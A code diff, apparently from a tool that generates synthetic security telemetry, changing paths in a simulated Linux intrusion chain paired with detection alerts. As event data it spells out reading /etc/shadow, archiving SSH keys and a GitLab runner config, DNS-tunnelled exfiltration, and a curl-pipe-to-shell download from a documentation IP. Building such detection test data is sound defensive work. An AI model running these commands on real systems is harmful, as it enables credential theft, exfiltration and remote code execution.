@@ -252,21 +252,21 @@ func (b *builder) buildMachine() {
 	in.Malicious = true
 	ses, s0 := b.evil(sshd, 121.9, prog{path: "/usr/sbin/sshd", cmd: "sshd: root@pts/3", user: "root", signer: "dpkg"})
 	b.alert(ESP, "sshlat", in, s0)
-	sh, _ := b.evil(ses, 121.8, prog{path: "/usr/bin/bash", cmd: "-bash", user: "root", signer: "dpkg", dir: "/root"})
-	key := b.file("file_write", sh, 119, "/root/.ssh/authorized_keys", "authorized_keys", 1_122)
+	sh, _ := b.evil(ses, 121.8, prog{path: "/usr/bin/bash", cmd: "-bash", user: "root", signer: "dpkg", dir: "/home/deploy"})
+	key := b.file("file_write", sh, 119, "/home/deploy/.ssh/authorized_keys", "authorized_keys", 1_122)
 	b.alert(ESP, "sshkey", key)
-	cat, sd := b.evil(sh, 112, prog{path: "/usr/bin/cat", cmd: "cat /etc/shadow", user: "root", signer: "dpkg", dir: "/root"})
+	cat, sd := b.evil(sh, 112, prog{path: "/usr/bin/cat", cmd: "cat /etc/shadow", user: "root", signer: "dpkg", dir: "/home/deploy"})
 	b.alert(ESP, "shadow", sd)
 	b.end(cat, 111.98)
-	nm, n0 := b.evil(sh, 104, prog{path: "/usr/bin/nmap", cmd: "nmap -sT -p 22,80,443,5432 10.20.11.0/24", user: "root", signer: "dpkg", dir: "/root"})
+	nm, n0 := b.evil(sh, 104, prog{path: "/usr/bin/nmap", cmd: "nmap -sT -p 22,80,443,5432 10.20.11.0/24", user: "root", signer: "dpkg", dir: "/home/deploy"})
 	for i := range 5 {
 		b.connect(nm, 103.9-float64(i)*.02, "10.20.11.3", []int{22, 80, 443, 5432, 8080}[i], "")
 	}
 	b.alert(ESP, "scan", n0)
-	tar, t0 := b.evil(sh, 83, prog{path: "/usr/bin/tar", cmd: "tar czf /var/tmp/.cache/k.tgz /root/.ssh /home/deploy/.ssh /etc/gitlab-runner/config.toml", user: "root", signer: "dpkg", dir: "/root"})
+	tar, t0 := b.evil(sh, 83, prog{path: "/usr/bin/tar", cmd: "tar czf /var/tmp/.cache/k.tgz /home/deploy/.ssh /etc/ssh /etc/gitlab-runner/config.toml", user: "root", signer: "dpkg", dir: "/home/deploy"})
 	tf := b.file("file_create", tar, 82.9, "/var/tmp/.cache/k.tgz", "k.tgz", 20_480)
 	b.alert(ESP, "privkey", t0, tf)
-	dig, _ := b.evil(sh, 70, prog{path: "/usr/bin/bash", cmd: `bash -c 'xxd -p -c 30 /var/tmp/.cache/k.tgz | while read l; do dig +short $l.` + relayZone + `; done'`, user: "root", signer: "dpkg", dir: "/root"})
+	dig, _ := b.evil(sh, 70, prog{path: "/usr/bin/bash", cmd: `bash -c 'xxd -p -c 30 /var/tmp/.cache/k.tgz | while read l; do dig +short $l.` + relayZone + `; done'`, user: "root", signer: "dpkg", dir: "/home/deploy"})
 	var names []*Event
 	r := newRng(streamOf("dns relay"))
 	for i := range 8 {
@@ -275,10 +275,10 @@ func (b *builder) buildMachine() {
 	b.alert(ESP, "dnsexf", names...)
 
 	// Nineteen minutes ago: a second foothold.
-	c, c0 := b.evil(sh, 19.02, prog{path: "/usr/bin/bash", cmd: "bash -c 'curl -fsSL http://203.0.113.66/b.sh | sh'", user: "root", signer: "dpkg", dir: "/root"})
-	cu, c1 := b.evil(c, 19.01, prog{path: "/usr/bin/curl", cmd: "curl -fsSL http://203.0.113.66/b.sh", user: "root", signer: "dpkg", dir: "/root"})
+	c, c0 := b.evil(sh, 19.02, prog{path: "/usr/bin/bash", cmd: "bash -c 'curl -fsSL http://203.0.113.66/b.sh | sh'", user: "root", signer: "dpkg", dir: "/home/deploy"})
+	cu, c1 := b.evil(c, 19.01, prog{path: "/usr/bin/curl", cmd: "curl -fsSL http://203.0.113.66/b.sh", user: "root", signer: "dpkg", dir: "/home/deploy"})
 	b.connect(cu, 19.005, c2IP, 80, "")
-	s, c2 := b.evil(c, 19, prog{path: "/usr/bin/dash", cmd: "sh", user: "root", signer: "dpkg", dir: "/root"})
+	s, c2 := b.evil(c, 19, prog{path: "/usr/bin/dash", cmd: "sh", user: "root", signer: "dpkg", dir: "/home/deploy"})
 	b.alert(ESP, "curlsh", c0, c1, c2)
 	cr := b.file("file_create", s, 18.5, "/etc/cron.d/mlocate-update", "cron mlocate-update", 74)
 	b.alert(ESP, "cron", cr)
